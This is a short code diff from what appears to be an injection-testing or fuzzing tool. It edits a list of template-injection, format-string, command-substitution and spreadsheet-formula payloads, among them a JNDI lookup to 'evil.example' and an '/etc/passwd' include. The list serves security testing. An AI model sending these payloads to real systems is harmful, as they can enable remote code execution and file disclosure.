@@ -36,7 +36,7 @@ ATTRIBUTES = (
 TEMPLATES = (
     "{{{{ 7*7 }}}}", "{{{{ config }}}}", "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}", "{{% raw %}}",
     "{{% include '/etc/passwd' %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "${{jndi:ldap://evil.example/a}}",
-    "{{{{constructor.constructor('{call}')()}}}}", "%s%s%s%n", "%(asctime)s", "{{0}}", "$(touch /tmp/owned)", "`id`",
+    "{{{{constructor.constructor('{call}')()}}}}", "%s%s%s%n", "%(asctime)s", "{{0}}", "$(touch owned)", "`id`",
 )  # fmt: skip
 CELLS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"')
 SHAPES = (
